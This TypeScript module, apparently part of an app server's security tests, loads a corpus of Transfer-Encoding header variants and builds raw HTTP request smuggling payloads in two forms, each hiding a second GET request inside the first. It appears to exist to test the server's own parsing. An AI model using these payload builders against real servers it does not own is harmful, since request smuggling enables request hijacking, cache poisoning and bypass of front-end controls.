import { existsSync, readFileSync } from "node:fs";
import { join, resolve } from "node:path";

const corpora = process.env["APPSERVER_CORPORA"] ?? resolve(import.meta.dirname, "../../../shared/corpora");
const file = join(corpora, "smuggler-te/te_mutations.json");

/** One spelling of a Transfer-Encoding header that parsers may interpret differently. */
export interface Mutation {
  readonly name: string;
  readonly head: string;
}

/** The corpus. Undefined if it is not on this machine. */
export function transferEncodingMutations(): readonly Mutation[] | undefined {
  if (!existsSync(file)) return undefined;
  const corpus = JSON.parse(readFileSync(file, "utf8")) as Record<string, Record<string, string>>;
  return Object.entries(corpus).flatMap(([set, heads]) =>
    Object.entries(heads).map(([name, head]): Mutation => ({ name: `${set}/${name}`, head })),
  );
}

/** The target of an attack. */
export interface AttackTarget {
  readonly host: string;
  /** Path of the app, without a slash at its end. */
  readonly base: string;
}

/** Ends a chunked body at once, so that a parser that honours chunks takes the rest for a second request. */
export function chunkedEndInsideLength({ head }: Mutation, index: number, { host, base }: AttackTarget): Buffer {
  const body = `0\r\n\r\nGET ${base}/smuggled/${index} HTTP/1.1\r\nHost: ${host}\r\n\r\n`;
  const filled = head
    .replaceAll("__METHOD__", "POST")
    .replaceAll("__ENDPOINT__", `${base}/sent/${index}`)
    .replaceAll("__RANDOM__", "1")
    .replaceAll("__HOST__", host)
    .replaceAll("__REPLACE_CL__", String(body.length));
  return Buffer.from(`${filled}\r\n${body}`, "latin1");
}

/** The same with a length that covers only the first chunk's size line, for a front end that honours the length. */
export function requestInsideFirstChunk(mutation: Mutation, index: number, target: AttackTarget): Buffer {
  const { host, base } = target;
  const smuggled = `GET ${base}/smuggled/${index} HTTP/1.1\r\nHost: ${host}\r\nContent-Length: 30\r\n\r\n`;
  const size = `${smuggled.length.toString(16)}\r\n`;
  const body = `${size}${smuggled}\r\n0\r\n\r\n`;
  const filled = chunkedEndInsideLength(mutation, index, target)
    .toString("latin1")
    .split("\r\n\r\n0\r\n\r\n")[0]
    ?.replace(/(?<=Content-Length: )\d+$/, String(body.length));
  return Buffer.from(`${filled}\r\n\r\n${body}`, "latin1");
}
